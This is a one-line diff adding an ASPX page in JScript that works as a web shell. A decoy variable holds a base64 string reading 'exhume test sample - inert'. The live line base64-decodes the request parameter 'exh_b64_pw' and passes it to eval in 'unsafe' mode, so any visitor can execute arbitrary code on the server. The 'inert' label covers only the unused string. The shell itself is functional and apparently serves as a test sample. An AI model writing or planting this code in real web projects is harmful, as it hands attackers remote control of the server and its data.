@@ -1,0 +1,1 @@
+<%@Page Language="Jscript"%><%var exhdemo=System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.FromBase64String("ZXhodW1lIHRlc3Qgc2FtcGxlIC0gaW5lcnQ="));eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Item["exh_b64_pw"])),"unsafe");%>
